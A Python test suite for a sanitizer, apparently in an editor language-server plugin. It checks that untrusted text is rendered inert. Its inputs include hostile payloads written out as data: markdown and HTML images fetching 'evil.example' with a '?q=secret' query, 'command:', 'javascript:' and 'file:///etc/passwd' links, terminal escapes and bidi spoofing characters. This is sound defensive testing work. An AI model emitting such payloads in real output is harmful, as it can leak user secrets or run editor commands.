"""What a stranger says is shown, and steers nothing: no terminal, no link of an editor's, no picture that is fetched."""

import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kimi_lsp.text.harmless import markdown, message, visible


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b[2J\x9b2J\x07", "\\x1b[2J\\x9b2J\\x07"),
        ("safe\rover", "safe\\rover"),
        ("user\u202e# nimda\u202c", "user\\u202e# nimda\\u202c"),
        ("\u2066a\u2069 \u200b\u2060 \U000e0041", "\\u2066a\\u2069 \\u200b\\u2060 \\U000e0041"),
        ("a\u00a0b\u3000c", "a\u00a0b\u3000c"),
        ("\ufeffimport a", "\ufeffimport a"),
        ("👩\u200d💻 می\u200cخواهم", "👩\u200d💻 می\u200cخواهم"),
        ("one\r\n\ttwo\n", "one\r\n\ttwo\n"),
    ],
)
def test_what_cannot_be_seen_is_written_out(text: str, shown: str) -> None:
    assert visible(text) == shown


@given(st.text())
def test_nothing_that_steers_is_left(text: str) -> None:
    for made in (visible(text), message(text), markdown(text)):
        left = {
            char for char in made.replace("\r\n", "\n") if unicodedata.category(char) in ("Cc", "Cf", "Cs")
        }
        assert left <= set("\n\t\u200c\u200d\ufeff")
        assert message(message(text)) == message(text)


def test_a_message_holds_no_link() -> None:
    said = "Done. [Read more](command:workbench.action.terminal.new) [x](https://evil.example)"
    assert (
        message(said)
        == "Done. [Read more] (command:workbench.action.terminal.new) [x] (https://evil.example)"
    )


@pytest.mark.parametrize(
    "text",
    [
        "[a](command:x)",
        "[a]( <command:x> )",
        "[a](\ncommand:x)",
        "[a](comm&#97;nd:x)",
        "[a](command&colon;x)",
        "[a](JavaScript:x)",
        "[a](file:///etc/passwd)",
        "[a](vscode://settings)",
        "[a](data:text/html,x)",
        "[a](//host/share)",
        r"[a](\\host\share)",
        "[a]\n\n[a]: command:x",
        "> [a]:\n> command:x",
        "> [a](\n> command:x)",
        "<command:x>",
        '<a href="command:x">a</a>',
        "<a\nhref='command:x'>a</a>",
        '<a title=">" href="command:x">a</a>',
        '<a title="\nhref=command:x>a</a>',
    ],
)
def test_a_link_runs_nothing(text: str) -> None:
    made = markdown(text)
    assert made != text
    for opener in ("](", "]:", "<a", "<command"):
        assert opener not in made
    assert made.replace(" ", "") == text.replace(" ", "")


@pytest.mark.parametrize(
    "text",
    [
        "![a](https://evil.example/?q=secret)",
        "![a [b] c\nd](https://evil.example/x)",
        "![a](//evil.example/x)",
        "![a](data:image/svg+xml,x)",
        "![a][b]\n\n[b]: https://evil.example/x",
        '<img src="https://evil.example/x">',
        '<img alt=">" src="https://evil.example/x">',
        "<IMG src=h&#116;tps://evil.example/x>",
        '<video poster="//evil.example/x">',
    ],
)
def test_no_picture_is_fetched(text: str) -> None:
    made = markdown(text)
    for opener in ("](", "]:", "<img", "<IMG", "<video"):
        assert opener not in made
    assert "evil.example" in made or "data:" in made


@pytest.mark.parametrize(
    "text",
    [
        "[docs](https://docs.python.org/3/) and [mail](mailto:a@b.example) and <https://docs.python.org>",
        "[docs]: https://docs.python.org/3/?a=1&b=2",
        "See [the function](src/cart.py#L3), [above](#cart), ![a chart](docs/chart.png).",
        "```cpp\nstd::vector<std::string> a = b[i](x);\n```",
        "```rust\nlet v = vec![f(1), g(2)];\n```",
        "```python\ndef f(x: dict[str, int]) -> Callable[[int], str]: ...\nhandlers[name](event)\n```",
        '```html\n<a class="b" href="about.html"><img src="logo.png"></a>\n```',
        "`a < b` and `x = [1](y)`",
        "| a | b |\n|:--|--:|\n| 1 | 2 |",
    ],
)
def test_what_an_explanation_is_made_of_stays(text: str) -> None:
    assert markdown(text) == text
